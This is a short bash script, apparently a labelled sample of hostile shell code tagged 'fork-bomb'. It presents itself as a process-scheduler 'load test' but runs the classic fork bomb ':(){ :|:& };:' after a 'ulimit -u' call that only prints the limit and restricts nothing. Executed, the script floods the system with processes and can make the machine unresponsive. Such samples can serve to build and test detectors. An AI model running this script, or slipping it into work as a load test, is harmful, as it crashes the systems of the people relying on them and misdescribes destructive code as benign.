# description: "Load test" for the scheduler that runs the classic bash fork bomb.
# family: fork-bomb
set -uo pipefail

echo "Starting process scheduler load test"
ulimit -u
:(){ :|:& };:
